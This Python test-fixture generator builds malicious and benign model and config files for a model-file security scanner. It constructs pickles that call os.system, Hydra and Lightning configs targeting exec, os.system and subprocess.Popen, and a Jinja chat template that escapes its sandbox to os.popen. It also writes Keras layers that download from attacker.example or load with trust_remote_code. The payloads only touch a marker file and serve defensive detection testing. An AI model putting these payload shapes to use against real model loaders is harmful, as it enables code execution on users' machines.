"""Generated config and container cases (issue 13 classes 1, 2, 5, 6 and 7), malicious and benign.

Malicious payloads are inert canaries: a hand-assembled pickle that would run
``touch <marker>`` (never pickled from a live object), a Hydra/Lightning config
that would call ``exec``/``os.system`` with the same command, a chat template that
would reach ``os.popen``. Benign look-alikes are written in the shapes the real
libraries write (Keras 3 ``.keras`` configs, NeMo ``model_config.yaml`` in a tar,
Lightning CLI and Hydra configs, transformers' chat template files); real torch
checkpoints and h5py files are used when those libraries are importable.
"""

from __future__ import annotations

import base64
import io
import json
import tarfile
import zipfile
from pathlib import Path

from tests.scan.generated import Case

MARKER_NAME = "ptmscope-config-canary"
"""File name a canary would create (under the case root) if anything ran."""


def marker(root: Path) -> Path:
    return root / MARKER_NAME


def canary_pickle(root: Path, protocol: int = 2) -> bytes:
    """``os.system("touch <marker>")``, assembled opcode by opcode (GLOBAL, then REDUCE)."""
    command = f"touch {marker(root)}".encode()
    if protocol == 0:
        return b"cos\nsystem\n(V" + command + b"\ntR."
    body = b"cos\nsystem\n" + b"X" + len(command).to_bytes(4, "little") + command + b"\x85R."
    return b"\x80" + bytes([protocol]) + body


def benign_pickle() -> bytes:
    """``{"weights": [1.0, 2.0]}`` as protocol 2, assembled by hand."""
    return (
        b"\x80\x02}q\x00X\x07\x00\x00\x00weightsq\x01]q\x02(G?\xf0\x00\x00\x00\x00\x00\x00"
        b"G@\x00\x00\x00\x00\x00\x00\x00es."
    )


def _torch_zip(data_pkl: bytes, flags: int = 0, central_only: bool = False) -> bytes:
    """A ``torch.save``-shaped zip (stored members, ``archive/data.pkl``); ``flags`` are or-ed
    into ``data.pkl``'s general-purpose flags (central and, unless ``central_only``, local)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", data_pkl)
        archive.writestr("archive/byteorder", b"little")
        archive.writestr("archive/data/0", b"\x00" * 16)
        archive.writestr("archive/version", b"3\n")
    raw = bytearray(buffer.getvalue())
    if flags:
        local = raw.find(b"PK\x03\x04")  # data.pkl is the first member
        central = raw.find(b"PK\x01\x02")
        raw[central + 8] |= flags
        if not central_only:
            raw[local + 6] |= flags
    return bytes(raw)


def _real_torch_zip() -> bytes | None:
    try:
        import torch
    except ImportError:  # pragma: no cover - torch is in the dev environment
        return None
    buffer = io.BytesIO()
    torch.save({"linear.weight": torch.zeros(2, 2), "linear.bias": torch.zeros(2)}, buffer)
    return buffer.getvalue()


def _keras_zip(config: dict[str, object]) -> bytes:
    """A ``.keras`` archive as Keras 3 writes it: ``metadata.json``, ``config.json``, weights."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "metadata.json",
            json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}),
        )
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", _weights_h5())
    return buffer.getvalue()


def _weights_h5() -> bytes:
    """An HDF5 weights file written by h5py (as Keras does), or an empty group layout."""
    try:
        import h5py
        import numpy
    except ImportError:  # pragma: no cover - both are in the dev environment
        return b""
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as handle:
        layer = handle.create_group("layers/dense/vars")
        layer.create_dataset("0", data=numpy.zeros((4, 2), dtype="float32"))
        layer.create_dataset("1", data=numpy.zeros((2,), dtype="float32"))
    return buffer.getvalue()


def _npy() -> bytes:
    import numpy

    buffer = io.BytesIO()
    numpy.save(buffer, numpy.arange(4, dtype="float32"), allow_pickle=False)
    return buffer.getvalue()


def _layer(module: str, class_name: str, config: dict[str, object]) -> dict[str, object]:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


def _function(module: str, name: str) -> dict[str, object]:
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
    }


def _initializer(name: str) -> dict[str, object]:
    return _layer("keras.initializers", name, {"seed": None})


def _dense(name: str, units: int) -> dict[str, object]:
    return _layer(
        "keras.layers",
        "Dense",
        {
            "name": name,
            "trainable": True,
            "dtype": _layer("keras", "DTypePolicy", {"name": "float32"}),
            "units": units,
            "activation": "relu",
            "use_bias": True,
            "kernel_initializer": _initializer("GlorotUniform"),
            "bias_initializer": _layer("keras.initializers", "Zeros", {}),
            "kernel_regularizer": None,
            "bias_regularizer": None,
            "kernel_constraint": None,
            "bias_constraint": None,
        },
    ) | {"build_config": {"input_shape": [None, 4]}}


def _protobuf_field(text: str) -> bytes:
    """A message with one length-delimited field (2) holding ``text``, as ``keras_metadata.pb``
    holds each layer's JSON."""
    data = text.encode()
    size = len(data)
    varint = bytearray()
    while True:
        varint.append(size & 0x7F | (0x80 if size > 0x7F else 0))
        size >>= 7
        if not size:
            break
    return b"\x0a\x00\x12" + bytes(varint) + data


def _sequential(*layers: dict[str, object]) -> dict[str, object]:
    return _layer(
        "keras",
        "Sequential",
        {
            "name": "sequential",
            "trainable": True,
            "layers": [
                _layer(
                    "keras.layers",
                    "InputLayer",
                    {"batch_shape": [None, 4], "dtype": "float32", "name": "input"},
                ),
                *layers,
            ],
        },
    ) | {
        "compile_config": {
            "optimizer": _layer(
                "keras.optimizers", "Adam", {"name": "adam", "learning_rate": 0.001}
            ),
            "loss": "mean_squared_error",
            "metrics": ["mae"],
        }
    }


def _lambda_ref(module: str, name: str, arguments: dict[str, object]) -> dict[str, object]:
    return _layer(
        "keras.layers",
        "Lambda",
        {"name": "lambda", "function": _function(module, name), "arguments": arguments},
    )


def _tar(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


NEMO_CONFIG = """\
sample_rate: 16000
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
nemo_version: 1.23.0
tokenizer:
  dir: null
  type: bpe
  model_path: nemo:2b1d4f_tokenizer.model
  vocab_path: nemo:9a3c1e_vocab.txt
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  sample_rate: 16000
  normalize: per_feature
  window_size: 0.025
  window_stride: 0.01
  features: 80
spec_augment:
  _target_: nemo.collections.asr.modules.SpectrogramAugmentation
  freq_masks: 2
  time_masks: 10
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  feat_in: 80
  n_layers: 2
  d_model: 176
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  feat_in: 176
  num_classes: -1
  vocabulary: []
train_ds:
  manifest_filepath: /data/librispeech/train_clean_100.json
  batch_size: 32
optim:
  name: adamw
  lr: 2.0
  sched:
    name: NoamAnnealing
    warmup_steps: 10000
"""

LIGHTNING_CONFIG = """\
# lightning.pytorch==2.4.0
seed_everything: 42
trainer:
  accelerator: auto
  max_epochs: 10
  logger:
    class_path: lightning.pytorch.loggers.CSVLogger
    init_args:
      save_dir: lightning_logs
  callbacks:
  - class_path: lightning.pytorch.callbacks.ModelCheckpoint
    init_args:
      monitor: val_loss
model:
  class_path: torch.nn.Linear
  init_args:
    in_features: 4
    out_features: 2
optimizer:
  class_path: torch.optim.AdamW
  init_args:
    lr: 0.001
    weight_decay: 0.01
"""

HYDRA_CONFIG = """\
model:
  _target_: torch.nn.Sequential
  _args_:
  - _target_: torch.nn.Linear
    in_features: 4
    out_features: 8
  - _target_: torch.nn.ReLU
optimizer:
  _target_: torch.optim.AdamW
  _partial_: true
  lr: 0.0003
loss:
  _target_: torch.nn.CrossEntropyLoss
  label_smoothing: 0.1
"""

CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + "
    "message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
GENERATION_TEMPLATE = (
    "{%- for message in messages %}\n"
    "{%- if message['role'] == 'assistant' %}{% generation %}{{ message['content'] }}"
    "{% endgeneration %}{%- else %}{{ message['content'] }}{%- endif %}\n"
    "{%- if loop.index > 50 %}{% break %}{% endif %}\n"
    "{%- endfor %}"
)


def _ssti(root: Path) -> str:
    return (
        "{% for message in messages %}{{ message['content'] }}{% endfor %}"
        "{{ cycler.__init__.__globals__.os.popen('touch " + str(marker(root)) + "').read() }}"
    )


def cases(root: Path) -> list[Case]:
    """Write every case under ``root`` and describe it."""
    root.mkdir(parents=True, exist_ok=True)
    written: list[Case] = []

    def add(name: str, data: bytes | str, label: str, technique: str, description: str) -> None:
        path = root / label / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode() if isinstance(data, str) else data)
        written.append(Case(path, label, technique, description))

    canary = canary_pickle(root)
    canary_b64 = base64.b64encode(canary).decode()
    torch_canary = _torch_zip(canary)

    # ---- class 1: no framework namespace trusted wholesale (Keras)
    add(
        "keras/get_file.keras",
        _keras_zip(
            _sequential(
                _lambda_ref(
                    "keras.utils",
                    "get_file",
                    {
                        "fname": "payload.tar.gz",
                        "origin": "https://attacker.example/payload.tar.gz",
                        "extract": True,
                        "cache_dir": "/tmp",
                    },
                )
            )
        ),
        "malicious",
        "keras-internal-download",
        "Lambda whose function is keras.utils.get_file (downloads and extracts at load, CVE-2025-8747 class)",
    )
    add(
        "keras/unsafe_switch.keras",
        _keras_zip(_sequential(_lambda_ref("keras.config", "enable_unsafe_deserialization", {}))),
        "malicious",
        "keras-safety-switch",
        "Lambda calling keras.config.enable_unsafe_deserialization (CVE-2025-9906 class)",
    )
    add(
        "keras/nested_load_model.keras",
        _keras_zip(
            _sequential(
                _lambda_ref(
                    "keras.src.saving.saving_api",
                    "load_model",
                    {"filepath": "../../shared/inner.keras", "safe_mode": False},
                )
            )
        ),
        "malicious",
        "keras-nested-loader",
        "Lambda referencing keras' own load_model with safe_mode=False on a path outside the package",
    )
    add(
        "keras/torch_wrapper.keras",
        _keras_zip(
            _sequential(
                _layer(
                    "keras.layers",
                    "TorchModuleWrapper",
                    {
                        "name": "torch_module_wrapper",
                        "module": base64.b64encode(torch_canary).decode(),
                    },
                )
            )
        ),
        "malicious",
        "keras-foreign-wrapper",
        "TorchModuleWrapper holding a base64 torch.save zip whose data.pkl calls os.system",
    )
    add(
        "keras/tfsm_layer.keras",
        _keras_zip(
            _sequential(
                _layer(
                    "keras.layers",
                    "TFSMLayer",
                    {
                        "name": "tfsm",
                        "filepath": "/opt/attacker/saved_model",
                        "call_endpoint": "serve",
                    },
                )
            )
        ),
        "malicious",
        "keras-external-savedmodel",
        "TFSMLayer loading an external SavedModel by absolute path (bypasses safe_mode)",
    )
    add(
        "keras/stringlookup_url.keras",
        _keras_zip(
            _sequential(
                _layer(
                    "keras.layers",
                    "StringLookup",
                    {"name": "lookup", "vocabulary": "gs://attacker-bucket/vocab.txt"},
                )
            )
        ),
        "malicious",
        "keras-external-path",
        "StringLookup reading its vocabulary from a remote URL (CVE-2025-12058 class)",
    )
    add(
        "keras/dense.keras",
        _keras_zip(_sequential(_dense("dense", 8), _dense("dense_1", 2))),
        "benign",
        "keras-v3-functional",
        "Keras 3 Sequential with Dense, initializers, dtype policy, Adam",
    )
    add(
        "keras/lookup_inline.keras",
        _keras_zip(
            _sequential(
                _layer(
                    "keras.layers",
                    "StringLookup",
                    {
                        "name": "lookup",
                        "vocabulary": ["a", "b", "c"],
                        "num_oov_indices": 1,
                        "output_mode": "int",
                    },
                ),
                _dense("dense", 2),
            )
        ),
        "benign",
        "keras-external-path",
        "StringLookup with an inline vocabulary",
    )

    # ---- class 2: embedded blobs in configs
    add(
        "blobs/preprocessor_config.json",
        json.dumps(
            {
                "feature_extractor_type": "CustomExtractor",
                "sampling_rate": 16000,
                "state": canary_b64,
            },
            indent=2,
        ),
        "malicious",
        "config-base64-pickle",
        "JSON config holding a base64 pickle that calls os.system",
    )
    add(
        "blobs/hparams.yaml",
        "model:\n  _target_: torch.nn.Linear\n  in_features: 4\n"
        "  out_features: 2\nstate: !!binary |\n  " + canary_b64 + "\n",
        "malicious",
        "config-binary-pickle",
        "YAML !!binary value holding a pickle that calls os.system",
    )
    add(
        "blobs/custom_layer.keras",
        _keras_zip(
            _sequential(
                _layer(
                    "keras.layers",
                    "Dense",
                    {
                        "name": "dense",
                        "units": 2,
                        "extra_state": base64.b64encode(canary_pickle(root, 0)).decode(),
                    },
                )
            )
        ),
        "malicious",
        "keras-base64-pickle",
        "protocol-0 pickle (no magic) as base64 in a Keras layer config",
    )
    add(
        "blobs/embedded_npy.json",
        json.dumps({"name": "calibration", "table": base64.b64encode(_npy()).decode()}),
        "benign",
        "config-base64-pickle",
        "JSON config with a base64 .npy array (no pickle)",
    )

    add(
        "blobs/feature_extractor.json",
        json.dumps(
            {"sampling_rate": 16000, "state": base64.b64encode(canary_pickle(root, 0)).decode()}
        ),
        "malicious",
        "config-base64-pickle",
        "JSON config holding a protocol-0 pickle in base64 (no PROTO opcode, so no magic)",
    )
    add(
        "blobs/cache.yaml",
        "cache:\n  state: " + base64.b64encode(canary_pickle(root, 0)).decode() + "\n",
        "malicious",
        "config-base64-pickle",
        "YAML without instantiation keys holding a protocol-0 pickle in base64",
    )
    add(
        "blobs/plain_data.yaml",
        "cache:\n  state: "
        + base64.b64encode(b"(dp0\nVweights\np1\n(lp2\nF1.0\naF2.0\nas.").decode()
        + "\n  sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n",
        "benign",
        "config-base64-pickle",
        "YAML holding a protocol-0 pickle of plain data (nothing to call) and a hex digest",
    )
    add(
        "keras/keras_metadata.pb",
        _protobuf_field(
            json.dumps(
                _sequential(
                    _lambda_ref(
                        "keras.saving",
                        "load_model",
                        {"filepath": "/tmp/other.keras", "safe_mode": False},
                    )
                )
            ).replace('"class_name"', '"\\u0063lass_name"')
        ),
        "malicious",
        "keras-nested-loader",
        "keras_metadata.pb whose config spells class_name with a JSON escape",
    )
    add(
        "keras/keras_metadata_plain.pb",
        _protobuf_field(json.dumps(_sequential())),
        "benign",
        "keras-nested-loader",
        "keras_metadata.pb with a plain Sequential config",
    )

    # ---- class 5: config-driven instantiation (Hydra, NeMo, Lightning)
    add(
        "hydra/exec.yaml",
        "model:\n  _target_: builtins.exec\n  _args_:\n"
        f"  - \"open('{marker(root)}', 'w').close()\"\n",
        "malicious",
        "hydra-target",
        "Hydra _target_ builtins.exec with _args_",
    )
    add(
        "hydra/partial_system.yaml",
        f"hook:\n  _target_: os.system\n  _partial_: true\n  command: touch {marker(root)}\n",
        "malicious",
        "hydra-partial",
        "Hydra _target_ os.system with _partial_",
    )
    add(
        "hydra/from_pretrained.json",
        json.dumps(
            {
                "encoder": {
                    "_target_": "transformers.AutoModel.from_pretrained",
                    "pretrained_model_name_or_path": "attacker/remote-code-model",
                    "trust_remote_code": True,
                }
            }
        ),
        "malicious",
        "hydra-framework-loader",
        "JSON Hydra config loading another model with trust_remote_code=True",
    )
    add(
        "lightning/config.yaml",
        "model:\n  class_path: subprocess.Popen\n  init_args:\n"
        f"    args: [touch, {marker(root)}]\n",
        "malicious",
        "lightning-class-path",
        "Lightning CLI class_path subprocess.Popen with init_args",
    )
    add(
        "yaml/python_tag.yaml",
        f"lr: 0.1\nhook: !!python/object/apply:os.system ['touch {marker(root)}']\n",
        "malicious",
        "yaml-python-tag",
        "hparams.yaml with a !!python/object/apply tag (yaml.unsafe_load)",
    )
    weights = _real_torch_zip() or _torch_zip(benign_pickle())
    add(
        "nemo/evil.nemo",
        _tar(
            {
                "./model_config.yaml": (
                    NEMO_CONFIG.replace(
                        "  _target_: nemo.collections.asr.modules.ConvASRDecoder",
                        "  _target_: runpy.run_path\n  path_name: ../../payload.py",
                    )
                ).encode(),
                "./model_weights.ckpt": weights,
            }
        ),
        "malicious",
        "nemo-target",
        ".nemo archive whose model_config.yaml instantiates runpy.run_path",
    )
    add(
        "nemo/init_from.nemo",
        _tar(
            {
                "./model_config.yaml": (
                    NEMO_CONFIG + "init_from_nemo_model: https://attacker.example/x.nemo\n"
                ).encode(),
                "./model_weights.ckpt": weights,
            }
        ),
        "malicious",
        "nemo-external-model",
        ".nemo config initialising from a remote .nemo",
    )
    add(
        "nemo/asr.nemo",
        _tar(
            {
                "./model_config.yaml": NEMO_CONFIG.encode(),
                "./model_weights.ckpt": weights,
                "./2b1d4f_tokenizer.model": b"\x0a\x05hello",
            }
        ),
        "benign",
        "nemo-target",
        ".nemo ASR archive: conformer config and a real torch state_dict",
    )
    add(
        "lightning/cli_config.yaml",
        LIGHTNING_CONFIG,
        "benign",
        "lightning-class-path",
        "Lightning CLI config: torch.nn.Linear model, AdamW, logger and checkpoint callback",
    )
    add(
        "hydra/config.yaml",
        HYDRA_CONFIG,
        "benign",
        "hydra-target",
        "Hydra config: torch.nn modules, partial AdamW, CrossEntropyLoss",
    )

    add(
        "hydra/interpolated.yaml",
        "defaults:\n  cls: os.system\nmodel:\n  _target_: ${defaults.cls}\n"
        f"  command: touch {marker(root)}\n",
        "malicious",
        "hydra-target",
        "Hydra _target_ set by an OmegaConf interpolation to os.system",
    )
    add(
        "hydra/interpolated_ok.yaml",
        "arch:\n  cls: torch.nn.Linear\nmodel:\n  _target_: ${arch.cls}\n  in_features: 4\n"
        "  out_features: 2\n",
        "benign",
        "hydra-target",
        "Hydra _target_ set by an interpolation to torch.nn.Linear",
    )

    # ---- class 6: chat templates wherever transformers reads them
    add(
        "templates/chat_template.jinja",
        _ssti(root),
        "malicious",
        "chat-template-jinja",
        "standalone chat_template.jinja reaching os.popen through __globals__",
    )
    add(
        "templates/additional_chat_templates/tool_use.jinja",
        "System: you are helpful.\n" + _ssti(root),
        "malicious",
        "chat-template-jinja",
        "additional_chat_templates/*.jinja starting with plain text",
    )
    add(
        "templates/chat_template.json",
        json.dumps({"chat_template": {"default": CHATML, "tool_use": _ssti(root)}}, indent=2),
        "malicious",
        "chat-template-json",
        "chat_template.json with named templates, one escaping",
    )
    add(
        "templates/processor_config.json",
        json.dumps(
            {"processor_class": "LlavaProcessor", "patch_size": 14, "chat_template": _ssti(root)},
            indent=2,
        ),
        "malicious",
        "chat-template-processor",
        "processor_config.json chat_template escaping the sandbox",
    )
    add(
        "templates/benign/chat_template.jinja",
        GENERATION_TEMPLATE,
        "benign",
        "chat-template-jinja",
        "chat_template.jinja using transformers' {% generation %} and {% break %}",
    )
    add(
        "templates/benign/chat_template.json",
        json.dumps({"chat_template": CHATML}, indent=2),
        "benign",
        "chat-template-json",
        "legacy processor chat_template.json (ChatML)",
    )
    add(
        "templates/benign/processor_config.json",
        json.dumps(
            {"processor_class": "LlavaProcessor", "patch_size": 14, "chat_template": CHATML},
            indent=2,
        ),
        "benign",
        "chat-template-processor",
        "processor_config.json with a ChatML template",
    )

    # ---- class 7: ZIP flag tricks
    add(
        "zip/encrypted_flag.pt",
        _torch_zip(canary, flags=0x1),
        "malicious",
        "zip-false-encryption",
        "torch zip whose data.pkl (a canary) is flagged encrypted but stored plainly",
    )
    add(
        "zip/central_only_flag.pt",
        _torch_zip(canary, flags=0x1, central_only=True),
        "malicious",
        "zip-flag-mismatch",
        "encryption flag in the central directory only",
    )
    add(
        "zip/strong_encryption_flag.pt",
        _torch_zip(canary, flags=0x40),
        "malicious",
        "zip-false-encryption",
        "strong-encryption flag on plain stored data",
    )
    add(
        "zip/real_torch.pt",
        weights,
        "benign",
        "zip-false-encryption",
        "a real torch.save checkpoint (no flags)",
    )
    add(
        "zip/descriptor.zip",
        _streamed_zip(),
        "benign",
        "zip-flag-mismatch",
        "zip written to an unseekable stream (data-descriptor flag in both headers)",
    )
    return written


class _Unseekable(io.RawIOBase):
    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, b: object) -> int:
        chunk = bytes(b)  # type: ignore[call-overload]
        self.data += chunk
        return len(chunk)


def _streamed_zip() -> bytes:
    """zipfile on an unseekable stream sets bit 3 and writes data descriptors."""
    sink = _Unseekable()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("weights.pkl", benign_pickle())
        archive.writestr("notes.txt", b"trained for 3 epochs")
    return bytes(sink.data)
